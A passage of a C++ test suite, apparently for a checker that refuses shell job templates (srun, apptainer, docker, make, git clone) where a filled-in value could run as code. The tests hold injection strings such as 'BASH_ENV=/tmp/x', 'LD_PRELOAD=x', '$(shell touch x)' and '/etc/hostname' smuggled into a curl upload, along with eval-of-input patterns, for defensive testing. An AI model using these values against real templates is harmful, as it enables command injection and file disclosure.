  const auto nsys = placement(task("nsys profile --env-var=NCCL_DEBUG=%X% -o prof python3 t.py"));
  EXPECT_TRUE(refuses(nsys, "INFO,BASH_ENV=/tmp/x"));
  EXPECT_FALSE(refuses(nsys, "INFO"));
}

// A command line kept in the positional parameters (set -- CMD ...) runs
// where "$@" later stands as a command: its code strings are code (88th review).
TEST(ValueSinks, CommandLinesSetAsPositionalParameters) {
  for (const char* form : {"launch() { set -- apptainer exec --nv img bash -c \"cd /w && $*\"; srun \"$@\"; }\nlaunch python3 t.py --name \"%X%\"",
                           "launch() { set -e -- bash -c \"$*\"; srun \"$@\"; }\nlaunch echo \"%X%\"",
                           "launch() { builtin set -- bash -c \"$*\"; \"$@\"; }\nlaunch echo \"%X%\"",
                           "f() { set -- bash -c \"echo $*\"; trap \"$@\" EXIT; }\nf \"%X%\""})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  EXPECT_TRUE(rules(task("stage() { set -- srun --ntasks=2 \"$@\"; \"$@\"; }\nstage python3 t.py --name \"%X%\"")).empty());
}

// Where a program fetches code it builds or runs is the template's to
// choose: a package index or channel, a project, a template or a sweep
// (89th review).
TEST(ValueSinks, CodeSourcesAreNotValues) {
  for (const char* form : {"pip install --index-url \"%X%\" torch", "pip3 install -i %X% torch",
                           "python3 -m pip install --extra-index-url=%X% torch", "uv pip install --find-links %X% torch",
                           "conda install -c %X% numpy", "conda config --add channels %X%", "mlflow run \"%X%\"",
                           "mlflow run -e main %X% -P lr=0.1", "wandb agent \"%X%\"", "ansible-pull -U %X% site.yml",
                           "copier copy --trust %X% out", "cookiecutter --no-input %X%"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  // Their other values are data.
  for (const char* form : {"pip install --index-url https://pypi.org/simple \"torch==%X%\"", "mlflow run . -P lr=\"%X%\"",
                           "wandb agent --count \"%X%\" team/proj/abc123"})
    EXPECT_FALSE(refused(task(form), "value-parsed-as-code")) << form;
}

// An array written with each expansion quoted (ARGS=(--run "$X")) keeps
// each value one element: "${ARGS[@]}" gives it as one word, at the start
// of an argument; unquoted, the value is split wherever it is.
TEST(ValueSinks, ArraysOfQuotedElementsKeepEachValueOneWord) {
  for (const char* form : {"ARGS=(--run-name \"%X%\")\npython3 t.py \"${ARGS[@]}\"",
                           "ARGS=(--run-name \"%X%\" --seed 1)\nARGS+=(--fp16)\nsrun python3 t.py \"${ARGS[@]}\""})
    EXPECT_TRUE(rules(task(form)).empty()) << form;
  // (A placeholder is written as one quoted word, quoted or not: fr39/02.)
  for (const char* form : {"ARGS=(\"%X%\")\npython3 t.py \"${ARGS[@]}\"", "ARGS=(%X%)\npython3 t.py \"${ARGS[@]}\"",
                           "ARGS=(n=${SLURM_NNODES} \"%X%\")\npython3 t.py \"${ARGS[@]}\""}) {
    const auto quoted = placement(task(form));
    EXPECT_FALSE(refuses(quoted, "exp 7 (ablation)")) << form;
    EXPECT_TRUE(refuses(quoted, "--evil")) << form;
  }
  for (const char* form : {"N=\"%X%\"\nARGS=(x=$N)\npython3 t.py \"${ARGS[@]}\"", "ARGS=(\"%X%\")\npython3 t.py ${ARGS[@]}",
                           "ARGS=(\"%X%\")\nB=(\"${ARGS[@]}\" $N)\npython3 t.py \"${B[@]}\""})
    EXPECT_TRUE(refuses(placement(task(form)), "a b")) << form;
  // Elements of split arrays stay pieces in the arrays made of them.
  for (const char* form : {"read -ra P <<< \"%X%\"\nB=(\"${P[@]}\")\npython3 t.py \"${B[@]}\"",
                           "read -ra P <<< \"%X%\"\nset -- \"${P[@]}\"\nB=(x \"$@\")\npython3 t.py \"${B[@]}\""})
    EXPECT_TRUE(refuses(placement(task(form)), "a --evil")) << form;
  EXPECT_TRUE(refused(task("ARGS=(\"%X%\")\nbash -c \"echo ${ARGS[*]}\""), "value-parsed-as-code"));
  // Inside a word, each element after the first still begins an argument.
  for (const char* form : {"ARGS=(--run-name \"%X%\")\npython3 t.py \"--opts=${ARGS[@]}\"",
                           "ARGS=(--run-name \"%X%\")\npython3 t.py x\"${ARGS[@]}\"",
                           "f() { python3 t.py \"run $@\"; }\nf a \"%X%\""})
    EXPECT_TRUE(refuses(placement(task(form)), "--evil")) << form;
  // An indirection or ${@} in the list may bring several elements.
  for (const char* form : {"read -ra P <<< \"%X%\"\nref=\"P[@]\"\nB=(x \"${!ref}\")\npython3 t.py \"${B[@]}\"",
                           "read -ra P <<< \"%X%\"\nset -- \"${P[@]}\"\nB=(x \"${@}\")\npython3 t.py \"${B[@]}\""})
    EXPECT_TRUE(refuses(placement(task(form)), "a --evil")) << form;
}

// Container runtimes' options that reach the host (90th review): the
// working directory apptainer --cwd enters (where train.py is found), the
// host directory --home and --workdir mount, another container's volumes,
// the host's devices, capabilities; a whole --name=value word of an option
// the compiler does not know is still one word.
TEST(ValueSinks, ContainerOptionsOfTheNinetiethReview) {
  namespace R = sg::render;
  for (const char* form : {"srun apptainer exec --cwd \"%X%\" img.sif python3 train.py",
                           "singularity exec --cwd=%X% img.sif python3 train.py"})
    EXPECT_TRUE(placement(task(form)).roles.has(R::ElementRole::CodePath)) << form;
  for (const char* form : {"apptainer exec --home \"%X%\" img.sif true", "apptainer exec -H \"%X%\" img.sif true",
                           "singularity exec --home=\"%X%\" img.sif true"}) {
    // (It is $HOME in the container too: python loads its site-packages.)
    const auto p = placement(task(form));
    EXPECT_TRUE(p.roles.has(R::ElementRole::MountSource)) << form;
    EXPECT_TRUE(p.roles.has(R::ElementRole::CodePath)) << form;
    EXPECT_NE(p.roles.check("/root:/home/user"), nullptr) << form;
    EXPECT_NE(p.roles.check("/scratch/u"), nullptr) << form;
  }
  EXPECT_TRUE(placement(task("apptainer exec -W \"%X%\" img.sif true")).roles.has(R::ElementRole::MountSource));
  for (const char* form : {"docker run --volumes-from=\"%X%\" img true", "docker run --volumes-from \"%X%\" img true",
                           "docker run --device-cgroup-rule=\"%X%\" img true", "podman run --cgroup-parent %X% img true",
                           "apptainer exec --add-caps \"%X%\" img.sif true"})
    EXPECT_TRUE(refused(task(form), "value-chooses-account")) << form;
  const auto image = [](const char* form) {
    std::string body = task(form);
    body.replace(body.find("%IMAGE%"), 7, "${CLEARML_TASK.container.image}");
    return body;
  };
  for (const char* form : {"docker run --rm --volumes-from=data --sysctl=net.core.somaxconn=1024 \"%IMAGE%\" python3 train.py",
                           "docker run --rm --cap-add SYS_PTRACE \"%IMAGE%\" python3 train.py",
                           "docker run --rm --oom-score-adj=5 \"%IMAGE%\" python3 train.py"})
    EXPECT_TRUE(rules(image(form)).empty()) << form;
  // (Unless it may expand to several words, or none.)
  for (const char* form : {"docker run --rm --oom-score-adj=$(f) \"%IMAGE%\" python3 train.py",
                           "docker run --rm --oom-score-adj=$N \"%IMAGE%\" python3 train.py",
                           "docker run --rm --x=*.py \"%IMAGE%\" python3 train.py"})
    EXPECT_FALSE(rules(image(form)).empty()) << form;
}

// Shapes of real templates once refused (a hunt for false refusals):
// a launcher's option given a value before its script, a quoted
// here-document or -c string of another language that subscripts a name
// bash never evaluates, the environment apptainer passes on by its name
// inside, curl sending a file the template wrote.
TEST(ValueSinks, RealTemplatesOfTheNinetiethReview) {
  for (const char* form :
       {"echo {} > c.json\ndeepspeed --num_gpus=${CLEARML_TASK.hyperparams.p.g.value:8} train.py --cfg c.json --run %X%",
        "X=\"%X%\"\npython3 - <<'PY'\nimport os\nprint(os.environ[\"X\"])\nPY",
        "X=\"%X%\"\ncat <<'PY' > report.py\nprint(env[X])\nPY\npython3 report.py",
        "export X=\"%X%\"\npython3 -c 'import os; print(os.environ[\"X\"])'",
        "jq -n --arg t \"%X%\" '{text: $t}' > p.json\ncurl -s --data @p.json https://hooks.example.com/x",
        "N=\"%X%\"\npython3 - \"$N\" <<'PY'\nimport sys\nopen(\"x.json\", \"w\").write(sys.argv[1])\nPY"})
    EXPECT_TRUE(rules(task(form)).empty()) << form;
  using Q = sg::render::Quoting;
  EXPECT_NE(placement(task("X=\"%X%\"\npython3 - <<'PY'\nprint(env[X])\nPY")).context.quoting, Q::Arithmetic);
  // What bash itself expands there is still arithmetic, and the names
  // apptainer passes on still load code.
  EXPECT_EQ(placement(task("X=\"%X%\"\npython3 t.py \"${a[X]}\"")).context.quoting, Q::Arithmetic);
  EXPECT_EQ(placement(task("X=\"%X%\"\npython3 -c \"print('${a[X]}')\"")).context.quoting, Q::Arithmetic);
  EXPECT_EQ(placement(task("X=\"%X%\"\necho 'a[X]'")).context.quoting, Q::Arithmetic);
  EXPECT_EQ(placement(task("X=\"%X%\"\ncat <<'EOF' 2>err.py | bash\necho \"${a[X]}\"\nEOF")).context.quoting,
            Q::Arithmetic);
  // (apptainer evaluates what it passes on in the container's shell.)
  for (const char* name : {"SINGULARITYENV_LD_PRELOAD", "APPTAINERENV_PREPEND_PATH", "APPTAINERENV_WANDB_PROJECT"})
    EXPECT_FALSE(rules(task(std::string("export ") + name + "=\"%X%\"\napptainer exec img.sif python3 t.py")).empty())
        << name;
  EXPECT_TRUE(refused(task("jq -n --arg t \"%X%\" '[$t]' > args.rsp\ngcc @args.rsp x.c"), "value-parsed-as-code"));
  // A value inside a string of a JSON body is what a JSON string holds
  // ("finetune #3"), not a quote; in a --opt={...} word too; an item of
  // apptainer --env's list holds no ','.
  for (const char* form : {"curl -s --data \"{\\\"text\\\": \\\"%X%\\\"}\" https://h/x",
                           "N=\"%X%\"\ncurl -s --data \"{\\\"text\\\": \\\"run $N done\\\"}\" https://h/x",
                           "serve run --runtime-env-json=\"{\\\"env_vars\\\": {\\\"TAG\\\": \\\"%X%\\\"}}\" app:x",
                           "apptainer exec --no-eval --env WANDB_NAME=\"%X%\",WANDB_PROJECT=vision img.sif python3 t.py"}) {
    const auto p = placement(task(form));
    EXPECT_FALSE(refuses(p, "finetune #3 (final)")) << form;
    EXPECT_TRUE(refuses(p, "a\", \"task\": \"x")) << form;
  }
  EXPECT_TRUE(refuses(placement(task("apptainer exec --no-eval --env WANDB_NAME=\"%X%\",B=1 img.sif true")), "a,LD_PRELOAD=x"));
  EXPECT_TRUE(refuses(placement(task("curl -s --data \"{\\\"n\\\": %X%}\" https://h/x")), "1, \"x\": 2"));
  // firejail --shell=PROG runs the command's words joined, with PROG -c.
  EXPECT_TRUE(refused(task("firejail --shell=/bin/bash python3 t.py \"%X%\""), "value-parsed-as-code"));
  EXPECT_TRUE(rules(task("firejail --shell=none python3 t.py \"%X%\"")).empty());
  // A log line is no JSON or YAML, printed or appended; what a program
  // reads next, or a line of JSON, is.
  namespace R = sg::render;
  for (const char* form : {"true\necho \"[x] %X%: seed 1\"", "true\necho \"[$(date)] %X%: seed $s\" >> train.log",
                           "true\necho \"[12:00] %X%\" >> train.log", "printf '%s\\n' \"[x] %X%: seed 1\""})
    EXPECT_FALSE(placement(task(form)).roles.has(R::ElementRole::DataField)) << form;
  for (const char* form : {"echo \"[x] %X%: seed 1\" | python3 p.py", "V=$(echo \"lr=1,name=%X%\")",
                           "f() { echo \"lr=1,name=%X%\"; }\nf | python3 p.py",
                           "echo \"[$(date +%s), \\\"%X%\\\"]\" >> events.log", "echo \"{\\\"name\\\": \\\"%X%\\\"}\" >> events.log",
                           "echo \"[\\\"%X%\\\"]\" >> events.log", "echo \"[1, %X%]\" >> events.log"})
    EXPECT_TRUE(placement(task(form)).roles.has(R::ElementRole::DataField)) << form;
}

// Round 92: a line of JSON printed to the job's output (which the
// template may read back), accelerate's and deepspeed's configurations and
// launcher arguments, apptainer run's runscript, curl -F's list of files;
// and the false refusals of a second hunt.
TEST(ValueSinks, LaunchersRunscriptsAndJsonOfTheNinetySecondReview) {
  namespace R = sg::render;
  EXPECT_TRUE(refuses(placement(task("echo \"{\\\"event\\\": \\\"start\\\", \\\"name\\\": \\\"%X%\\\"}\"")),
                      "a\", \"task\": \"x"));
  for (const char* form : {"accelerate launch --config_file=%X% train.py", "accelerate launch --config_file \"%X%\" train.py",
                           "deepspeed --hostfile=%X% train.py", "deepspeed --venv_script=%X% train.py"})
    EXPECT_TRUE(placement(task(form)).roles.has(R::ElementRole::CodePath)) << form;
  EXPECT_TRUE(refused(task("deepspeed --launcher=slurm --launcher_args=\"%X%\" train.py"), "value-parsed-as-code"));
  EXPECT_TRUE(refused(task("apptainer run img.sif \"%X%\""), "value-parsed-as-code"));
  EXPECT_TRUE(rules(task("apptainer exec img.sif python3 t.py \"%X%\"")).empty());
  // apptainer evaluates --env values in the container's shell, unless --no-eval.
  EXPECT_TRUE(refused(task("apptainer exec --env WANDB_NAME=\"%X%\" img.sif python3 t.py"), "value-parsed-as-code"));
  EXPECT_TRUE(rules(task("apptainer exec --no-eval --env WANDB_NAME=\"%X%\" img.sif python3 t.py")).empty());
  // A YAML flow mapping or a Python dict is not read as JSON.
  for (const char* form : {"python3 t.py --cfg \"{'lr': 0.1, 'name': '%X%'}\"", "python3 t.py --cfg=\"{name: %X%}\""})
    EXPECT_TRUE(placement(task(form)).roles.has(R::ElementRole::DataField)) << form;
  // A value in a command substitution inside a part fills that part.
  EXPECT_TRUE(refuses(placement(task("OUT=\"%X%\"\ncurl -d \"{\\\"text\\\": \\\"$(basename \"$OUT\")\\\"}\" https://h/x")),
                      "x\", \"k\": \"v"));
  // horovodrun puts --mpi-args into a sh -c command line.
  EXPECT_TRUE(refused(task("horovodrun -np 4 --mpi-args=\"%X%\" python3 t.py"), "value-parsed-as-code"));
  // A launcher's script follows options whose names are written out.
  EXPECT_TRUE(refused(task("python3 -${CLEARML_TASK.hyperparams.a.o.value:u} train.py ${CLEARML_TASK.hyperparams.a.e.value|words}"),
                      "words-position"));
  EXPECT_TRUE(refuses(placement(task("curl -F \"log=@%X%.log\" https://h/up")), "train.py,/etc/hostname"));
  // deepspeed -H FILE: the hostfile is -H's value, not the script.
  EXPECT_TRUE(rules(task("deepspeed -H hostfile --master_addr \"$MASTER\" train_ds.py --run %X%")).empty());
  EXPECT_TRUE(rules(task("curl -s --data \"{\\\"text\\\": \\\"Job $SLURM_JOB_ID: %X%\\\"}\" \"$URL\"")).empty());
}

// A for loop's list from a program that reads nothing ($(seq ...), $(ls))
// holds no file's text: a value the loop's body writes to a file or a pipe
// is not split by the list. What the list reads ($(cat F)) is.
TEST(ValueSinks, AForLoopsListSplitsWhatItReadsNotWhatTheBodyWrites) {
  for (const char* form : {"for s in $(seq 3); do echo \"%X%\"; done | tee log.txt",
                           "for s in $(seq 0 2); do python3 t.py --lr %X% 2>&1 | tee \"out_$s.txt\"; done",
                           "for s in $(ls); do echo \"%X%\" > \"f_$s\"; done"}) {
    EXPECT_TRUE(rules(task(form)).empty()) << form;
    EXPECT_FALSE(placement(task(form)).context.split_later) << form;
  }
  EXPECT_TRUE(placement(task("echo \"%X%\" > list.txt\nfor s in $(cat list.txt); do python3 t.py \"$s\"; done"))
                  .context.split_later);
  EXPECT_TRUE(refused(task("echo \"%X%\" > steps.sh\nfor f in $(ls *.sh); do bash \"$f\"; done"), "value-parsed-as-code"));
}

// In another language's program that bash only expands ("...", an unquoted
// here-document), os.environ["RUN"] is the program's; ${a[RUN]} is bash's.
TEST(ValueSinks, AnotherLanguagesSubscriptsAreItsOwn) {
  for (const char* form : {"export RUN=\"%X%\"\npython3 - <<EOF\nimport os\nprint(os.environ[\"RUN\"], \"$SLURM_JOB_ID\")\nEOF",
                           "export RUN=\"%X%\"\npython3 -c \"import os; print(os.environ['RUN'], $SLURM_JOB_ID)\"",
                           "export RUN=\"%X%\"\nawk \"BEGIN { print ENVIRON[\\\"RUN\\\"], $SLURM_JOB_ID }\""}) {
    EXPECT_TRUE(rules(task(form)).empty()) << form;
    EXPECT_NE(placement(task(form)).context.quoting, sg::render::Quoting::Arithmetic) << form;
  }
  // (An array's keys, ${!A[@]}, are no indirection.)
  EXPECT_NE(placement(task("export RUN=\"%X%\"\nA=(x)\nfor i in \"${!A[@]}\"; do :; done\npython3 -c \"import os; "
                           "print(os.environ['RUN'], $SLURM_JOB_ID)\"")).context.quoting,
            sg::render::Quoting::Arithmetic);
  for (const char* form : {"RUN=\"%X%\"\ndeclare -a a\npython3 -c \"print('${a[RUN]}')\"",
                           "export RUN=\"%X%\"\nr=x\necho \"${!r}\"\npython3 - <<EOF\nprint(environ[RUN])\nEOF"})
    EXPECT_EQ(placement(task(form)).context.quoting, sg::render::Quoting::Arithmetic) << form;
}

// hash -p FILE NAME: every later NAME runs FILE.
TEST(ValueSinks, HashPathChoosesTheProgram) {
  EXPECT_TRUE(refused(task("PY=\"%X%\"\nhash -p \"$PY\" python\npython t.py"), "placeholder-command"));
  EXPECT_TRUE(refused(task("hash -p \"%X%\" python\npython t.py"), "placeholder-command"));
}

// Code of another language that runs commands and reads its input, or
// names a file the template wrote: what reaches it is code.
TEST(ValueSinks, ForeignCodeThatRunsItsInputOrAWrittenFile) {
  for (const char* form : {"python3 -c 'import os; os.system(\"echo \" + input())' <<< \"%X%\"",
                           "cat > prep.py <<'PY'\nimport subprocess, sys\nsubprocess.run(sys.stdin.read(), shell=True)\nPY\n"
                           "echo \"%X%\" | python3 prep.py",
                           "echo \"%X%\" > args.txt\npython3 - <<'PY'\nimport os\nos.system('run ' + open('args.txt').read())\nPY"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  for (const char* form : {"python3 -c 'import sys, json; print(json.load(sys.stdin)[\"x\"])' <<< \"%X%\"",
                           "echo \"%X%\" > name.txt\npython3 - <<'PY'\nprint(open('name.txt').read())\nPY"})
    EXPECT_FALSE(refused(task(form), "value-parsed-as-code")) << form;
}

// Code that runs commands and reads the environment by literal names
// makes only those variables code; any other read makes all of them code.
TEST(ValueSinks, ForeignCodeReadsTheVariablesItNames) {
  const std::string hook = "export RUN=\"%X%\"\npython3 -c 'import os, subprocess; u = os.environ.get(\"WEBHOOK\"); "
                           "subprocess.run([\"hostname\"])'";
  EXPECT_TRUE(rules(task(hook)).empty());
  EXPECT_EQ(placement(task(hook)).roles.check("resnet50 baseline"), nullptr);
  for (const char* form : {"export RUN=\"%X%\"\npython3 -c 'import os; os.system(\"echo \" + os.environ[\"RUN\"])'",
                           "export RUN=\"%X%\"\npython3 -c 'import os; os.system(\"echo \" + os.getenv(\"RUN\"))'",
                           "export RUN=\"%X%\"\npython3 -c 'import os; [os.system(v) for k, v in os.environ.items()]'",
                           "export RUN=\"%X%\"\nnode -e 'require(\"child_process\").execSync(process.env.RUN)'",
                           "export RUN=\"%X%\"\npython3 - <<'PY'\nimport os\nos.system(os.path.expandvars(\"$RUN\"))\nPY"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
}

// make reads every environment variable as a make variable, however the
// template starts it.
TEST(ValueSinks, MakeStartedAnyWayReadsTheEnvironment) {
  namespace R = sg::render;
  for (const char* form : {"export RUN=\"%X%\"\npython3 - <<'PY'\nimport subprocess\nsubprocess.run([\"make\", \"train\"])\nPY",
                           "export RUN=\"%X%\"\necho \"make train\" > step.sh\nbash step.sh",
                           "export RUN=\"%X%\"\ncmake -E env OMP_NUM_THREADS=8 make train",
                           "export R=\"%X%\"\npython3 -c 'import os; os.system(\"cd build && make\")'",
                           "export RUN=\"%X%\"\ncmake --build build -j8"})
    EXPECT_TRUE(placement(task(form)).roles.has(R::ElementRole::MakeVariable)) << form;
  EXPECT_FALSE(placement(task("export RUN=\"%X%\"\necho \"python3 train.py\" > step.sh\nbash step.sh"))
                   .roles.has(R::ElementRole::MakeVariable));
}

// The 31st review of the day's rules: ordinary templates they refused, and
// ways around them.
TEST(ValueSinks, TreesAndForeignCodeOfTheThirtyFirstReview) {
  for (const char* form : {
           // A training script that calls model.eval() reads no command from its input.
           "cat > train.py <<'PY'\nimport torch\nmodel.eval()\ntargets = torch.load('t.pt')\nPY\n"
           "echo \"%X%\" | python3 train.py",
           "export R=\"%X%\"\npython3 -c 'import os, subprocess; os.environ.get(\"CONDA_DEFAULT_ENV\"); subprocess.run([\"hostname\"])'",
           "export R=\"%X%\"\npython3 -c 'import subprocess; print(\"make sure the GPUs are visible\"); subprocess.run([\"nvidia-smi\"])'",
           "srun python /opt/train.py -D cfg --name \"%X%\"", "dvc get \"%X%\" data/imagenet/\npython3 /opt/t.py",
           "hf download \"%X%\" --local-dir models\npython /opt/project/models/train.py"})
    EXPECT_FALSE(refused(task(form), "value-parsed-as-code")) << form;
  for (const char* form : {
           "git clone \"%X%\" src\nexport PYTHONPATH=$(pwd)/src\npython3 /opt/t.py",
           "git clone \"%X%\" /scratch/w/src\nexport PYTHONPATH=/scratch/w/src\npython3 /opt/t.py",
           "git clone \"%X%\" /scratch/w/src\npython3 /scratch/w/src/train.py",
           "export TASK_X=\"%X%\"\npython3 -c 'import os, sys; os.system(os.environ[\"TASK_\" + sys.argv[1]])' X",
           "git remote set-url origin \"%X%\"\ngit pull\npython3 train.py", "git remote add -f up \"%X%\"\npython3 train.py",
           "git clone \"%X%\" src\ncd src/scripts/..\npython3 -c 'import x'"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
}

// make may find any variable in its environment (one the job inherited,
// CUDA_VISIBLE_DEVICES or OLDPWD, stays exported when the template sets it),
// and expands it into recipes: a value that reaches make that way is checked
// as a plain word when it is known, not refused (fr32, fr33, round 98).
// An #SBATCH value of a checked grammar (--nodes, --time) holds no code.
TEST(ValueSinks, MakeChecksWhatItMayFindInItsEnvironment) {
  namespace R = sg::render;
  for (const char* form : {"OUT=\"%X%\"\nmkdir -p \"$OUT\"\nmake -j4", "make -C /opt/kernels\nexport WANDB_NAME=\"%X%\"",
                           "RUN_NAME=\"%X%\" make", "CUDA_VISIBLE_DEVICES=\"%X%\"\nmake",
                           "b() { make; }\nRUN_NAME=\"%X%\" b", "RUN_NAME=\"%X%\" python3 /opt/x.py\nexport RUN_NAME\nmake",
                           "pushd \"runs/%X%\"\npopd\nmake", "cd \"runs/%X%\"\nmake"}) {
    const auto pl = placement(task(form));
    EXPECT_TRUE(pl.roles.has(R::ElementRole::MakeVariable)) << form;
    EXPECT_EQ(pl.roles.check("outputs/run_7"), nullptr) << form;
    for (const char* value : {"$(shell touch x)", "a b", "x;touch y", "-j1"}) EXPECT_NE(pl.roles.check(value), nullptr) << form;
  }
  // fr33, fr34: NAME=value before a command is that command's environment only.
  for (const char* form : {"RUN_NAME=\"%X%\" python3 -c 'import os; print(os.environ[\"RUN_NAME\"])'\nmake -C /opt/k",
                           "RUN_NAME=\"%X%\" nvidia-smi\nmake"})
    EXPECT_FALSE(placement(task(form)).roles.has(R::ElementRole::MakeVariable)) << form;
  // (Not when the command may start another program, which inherits it:
  // a script, code that runs commands; nor where ${NAME:=...} sets it.)
  for (const char* form : {"RUN_NAME=\"%X%\" python3 /opt/x.py\nmake",
                           "cat > step.sh <<'EOF'\nmake all\nEOF\nRUN_NAME=\"%X%\" python3 -c 'import subprocess; "
                           "subprocess.run([\"./step.sh\"])'",
                           "RUN_NAME=warmup hostname\n: \"${RUN_NAME:=%X%}\"\nmake",
                           "RUN_NAME=\"%X%\" env -S 'make all'", "RUN_NAME=\"%X%\" flock /tmp/l -c \"make all\""})
    EXPECT_TRUE(placement(task(form)).roles.has(R::ElementRole::MakeVariable)) << form;
  // ...which still reads it: its code, its output, a make it runs.
  for (const char* form : {"RUN=\"%X%\" bash -c 'eval \"$RUN\"'", "RUN=\"%X%\" env | bash",
                           "RUN=\"%X%\" python3 -c 'import os; os.system(os.environ[\"RUN\"])'",
                           "RUN=\"%X%\" python3 -c 'import os; [os.system(v) for v in os.environ.values()]'",
                           "RUN=\"%X%\" srun bash -c 'eval \"$RUN\"'"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  EXPECT_TRUE(placement(task("RUN=\"%X%\" srun make")).roles.has(R::ElementRole::MakeVariable));
  // Round 106: a make in another shell's code the command runs, or chosen at run time.
  for (const char* form : {"RUN=\"%X%\" script -qec \"make -f Makefile train\" /dev/null",
                           "RUN=\"%X%\" tmux new-session -d -s b \"make train > b.log\"",
                           "MAKE=${MAKE:-make}\nRUN=\"%X%\" $MAKE -f Makefile train"})
    EXPECT_TRUE(placement(task(form)).roles.has(R::ElementRole::MakeVariable)) << form;
  for (const char* typed : {"#SBATCH --nodes=${CLEARML_TASK.hyperparams.properties.num_nodes.value:1}\nmake -j8",
                            "#SBATCH --time=${CLEARML_TASK.hyperparams.properties.time.value:01:00:00}\nmake -j8",
                            "#SBATCH -N ${CLEARML_TASK.hyperparams.properties.num_nodes.value:1}\nmake -j8"})
    EXPECT_FALSE(placement(typed).roles.has(R::ElementRole::MakeVariable)) << typed;
  // (--comment is free text: the job's environment holds it; so is a
  // name whose quoted text only looks like --time.)
  for (const char* text : {"#SBATCH --comment=${CLEARML_TASK.hyperparams.properties.note.value:x}\nmake",
                           "#SBATCH --job-name=\"x --time=${CLEARML_TASK.name}\"\nmake"})
    EXPECT_TRUE(placement(text).roles.has(R::ElementRole::MakeVariable)) << text;
  // Review 33: env -i counts only right before make in its chain of runners;
  // pip builds only a local project.
  for (const char* form : {"export X=\"%X%\"\nfind . -maxdepth 0 -exec env -i true \\; -exec make train \\;",
                           "export X=\"%X%\"\nenv -i PATH=/usr/bin srun make train"})
    EXPECT_TRUE(placement(task(form)).roles.has(R::ElementRole::MakeVariable)) << form;
  for (const char* form : {"export R=\"%X%\"\npip install -r /opt/project/requirements.txt",
                           "export R=\"%X%\"\npip install --cache-dir /scratch/pip torch",
                           "export R=\"%X%\"\npython3 tools/launch.py build"})
    EXPECT_FALSE(placement(task(form)).roles.has(R::ElementRole::MakeVariable)) << form;
  // A find inside a find's clause is read once per clause (each used to read
  // every later clause again: 2^n).
  std::string nested = "export X=\"%X%\"\n";
  for (int n = 0; n < 40; ++n) nested += "find . -exec ";
  nested += "true";
  for (int n = 0; n < 40; ++n) nested += " \\;";
  EXPECT_FALSE(refused(task(nested), "value-parsed-as-code"));
  // env -i: make's environment is env's own assignments only.
  EXPECT_FALSE(placement(task("export N=\"%X%\"\nenv -i PATH=/usr/bin make -C /opt/k")).roles.has(R::ElementRole::MakeVariable));
  EXPECT_TRUE(placement(task("env -i N=\"%X%\" make -C /opt/k")).roles.has(R::ElementRole::MakeVariable));
  // Build steps that may run make.
  for (const char* form : {"export R=\"%X%\"\npython3 setup.py build_ext --inplace", "export R=\"%X%\"\npip install -e .",
                           "export R=\"%X%\"\nnpm run build", "export R=\"%X%\"\nninja -C build"})
    EXPECT_TRUE(placement(task(form)).roles.has(R::ElementRole::MakeVariable)) << form;
}

// Round 97 and the known open cases: a tree copied by its contents
// (code/.), a package a module path or an import names, test and build
// tools that run a tree's files, archives python unpacks, cmake --build's make.
TEST(ValueSinks, TreesReachedByContentsImportsAndTools) {
  for (const char* form : {
           "git clone \"%X%\" code\ncp -r code/. .\npython3 train.py",
           "git clone \"%X%\" code\ncp -r code/. run/\npython3 run/train.py",
           "git clone \"%X%\" code\nmkdir run\ncp -r code/src/. run\ncd run",
           "git clone \"%X%\" code\nln -s code/src src\npython3 -m src.train",
           "git clone \"%X%\" src\npython3 -c 'import src'",
           "git clone \"%X%\" src\npython3 - <<'PY'\nimport os\nfrom src.models import net\nPY",
           "git clone \"%X%\" src\npython3 -c 'import importlib; importlib.import_module(\"src.train\")'",
           "git clone \"%X%\" src\ncat > run.py <<'PY'\nimport os, src\nPY\npython3 run.py",
           "git clone \"%X%\" code\nctest --test-dir code/build",
           "git clone \"%X%\" code\nlocust -f code/locustfile.py",
           "git clone \"%X%\" code\nmkdocs build -f code/mkdocs.yml",
           "git clone \"%X%\" code\nbehave code/features",
           "git clone \"%X%\" code\ndocker build -t img code",
           "git clone \"%X%\" code\nconda develop code",
           "git clone \"%X%\" code\npython3 -m train --cfg code/configs/x.py",
           "git clone \"%X%\" src\npython3 -m unittest discover -s src",
           "git clone \"%X%\" src\njulia --project=src /opt/run.jl",
           "git clone \"%X%\" src\ncp src/requirements.txt .\npip install -r requirements.txt",
           "curl -fsSL -o data.zip \"%X%\"\npython3 -m zipfile -e data.zip .\npython3 train.py"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  for (const char* form : {
           "git clone \"%X%\" code\ncat code/train.py\ngrep -r TODO code/src/a.py",
           "git clone \"%X%\" data\npython3 -c 'from datasets import load_dataset; load_dataset(\"data\")'",
           "hf download \"%X%\" --local-dir models\npython3 -c 'import torch; print(torch.cuda.is_available())'",
           "git clone \"%X%\" src\npython3 -m unittest discover -s tests -p 'test_*.py'",
           "git clone \"%X%\" src\njulia --project=/opt/env /opt/run.jl"})
    EXPECT_FALSE(refused(task(form), "value-parsed-as-code")) << form;
}

// Round 98 and fr33: trees copied by find -exec, loaded through an
// interpreter's -I or a path in code, written elsewhere by git; code that
// only names eval in another name; a download into "$DIR/".
TEST(ValueSinks, TreesThroughFindPerlAndGitOfTheNinetyEighthReview) {
  for (const char* form : {"git clone \"%X%\" code\nfind code -name '*.py' -exec cp {} . \\;\npython3 train.py",
                           "git clone \"%X%\" code\nfind code -name '*.py' -exec cp -t . {} +\npython3 train.py",
                           "git clone \"%X%\" code\nfind code -exec echo {} \\; -exec cp {} . \\;\npython3 train.py",
                           "git clone \"%X%\" code\nfind code -exec timeout 60 cp {} . \\;\npython3 train.py",
                           "git clone \"%X%\" code\nsrun -N1 find -L code -exec cp {} . \\;\npython3 train.py",
                           "git clone \"%X%\" code\ngit --git-dir=code/.git --work-tree=. checkout -f\npython3 train.py",
                           "git clone \"%X%\" code\nGIT_WORK_TREE=. git -C code checkout -f\npython3 train.py",
                           "git clone \"%X%\" code\ngit clone code copy\ncd copy",
                           "git clone \"%X%\" code\nperl -Icode -e 'use Train'",
                           "git clone \"%X%\" code\nnode -r ./code/hook.js /opt/app.js",
